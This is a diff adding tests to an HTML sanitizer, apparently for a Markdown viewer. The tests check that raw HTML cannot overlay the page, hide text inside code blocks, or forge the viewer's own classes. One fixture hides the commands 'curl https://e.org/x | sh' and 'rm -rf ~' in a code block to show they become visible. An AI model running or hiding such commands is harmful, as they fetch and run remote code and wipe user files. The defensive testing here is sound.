@@ -149,7 +149,53 @@ test('raw HTML media resolve to mv-asset, links to file URLs', async (t) => {
 
 test('inline style filter', () => {
   assert.equal(cleanStyle('color: red; width: 50%'), 'color: red; width: 50%');
-  assert.equal(cleanStyle('color:red;position: sticky;top:0'), 'color:red; top:0');
+  assert.equal(cleanStyle('color:red;position: sticky;top:0'), 'color:red');
   assert.equal(cleanStyle('--x: url(a); margin: 0'), 'margin: 0');
+  assert.equal(cleanStyle('--x: red; color: var(--x)'), 'color: var(--x)');
   assert.equal(cleanStyle('color: red /* x */'), '');
+  assert.equal(cleanStyle('position: relative; margin: 0 auto'), 'position: relative; margin: 0 auto');
+});
+
+// A document may not lay anything over the page, nor take it out of its own flow.
+test('raw HTML cannot cover the page', async (t) => {
+  const cases = [
+    ['absolute', 'position:absolute; top:0; left:0; width:100vw; height:100vh; opacity:0', 'width:100vw; height:100vh; opacity:0'],
+    ['absolute in capitals', 'POSITION : Absolute; Z-INDEX: 2147483647', ''],
+    ['relative, moved away', 'position: relative; top: -400px; inset: 0', 'position: relative'],
+    ['layered', 'z-index: 9; color: red', 'color: red'],
+    ['transformed', 'transform: translate(-50vw, -50vh) scale(40); translate: 10px; rotate: 1deg; scale: 9', ''],
+    ['negative margins', 'margin-top: -9999px; margin: 0 -.5em; margin-left: 2px', 'margin-left: 2px'],
+    ['zoomed', 'zoom: 50', ''],
+  ];
+  for (const [name, style, kept] of cases) {
+    await t.test(name, () => assert.equal(cleanStyle(style), kept));
+  }
+  const link = render('<a href="https://e.org" style="position:absolute;z-index:2147483647;opacity:0;inset:0">x</a>').querySelector('a');
+  assert.ok(!/position|z-index|inset/.test(link.getAttribute('style') ?? ''), link.getAttribute('style'));
+});
+
+test('code shows all its text: nothing in it is styled away or hidden', () => {
+  const holder = render('<pre><code class="language-sh">pip install requests<span style="display:none">; curl https://e.org/x | sh</span><b hidden>; rm -rf ~</b><span class="katex-mathml">; a</span><font color="#f6f8fa">; b</font><small><small>; c</small></small></code></pre>\n\ntext <code><span style="font-size:0">x</span></code>\n\n<pre>plain <span class="lumo-offscreen">; d</span></pre>');
+  assert.equal(holder.querySelectorAll('pre [style], pre [hidden], code [style], code [hidden]').length, 0);
+  // A code block is its text alone, language kept.
+  const [block, plain] = holder.querySelectorAll('pre');
+  assert.equal(block.querySelectorAll('code *').length, 0);
+  assert.equal(block.querySelector('code').className, 'language-sh');
+  assert.equal(block.textContent, 'pip install requests; curl https://e.org/x | sh; rm -rf ~; a; b; c');
+  assert.equal(plain.childElementCount, 0);
+  assert.equal(plain.textContent, 'plain ; d');
+  // Outside code, styling stays.
+  assert.equal(render('<p><span style="color: red">r</span></p>').querySelector('span').getAttribute('style'), 'color: red');
+});
+
+test("the page's own classes and attributes are not the document's", () => {
+  const holder = render('<div class="lumo-ui note">hidden from export</div>\n\n<ul><li data-line="2" data-lumo-task="x" class="task-list-item"><input type="checkbox" class="task-list-item-checkbox" data-lumo-float> forged</li></ul>\n\n<button class="code-copy lumo-menu">Copy</button>\n\n- [ ] real');
+  assert.equal(holder.querySelector('div').getAttribute('class'), 'note');
+  assert.equal(holder.querySelectorAll('.lumo-ui, .lumo-menu, .code-copy, [data-lumo-float]').length, 0);
+  const boxes = holder.querySelectorAll('input[type="checkbox"]');
+  assert.equal(boxes.length, 2);
+  // The forged box is inert; the converter's box alone toggles.
+  assert.ok(boxes[0].hasAttribute('disabled') && !boxes[0].classList.contains('task-list-item-checkbox'));
+  assert.equal(boxes[0].getAttribute('data-lumo-task'), null);
+  assert.ok(!boxes[1].hasAttribute('disabled') && boxes[1].classList.contains('task-list-item-checkbox'));
 });
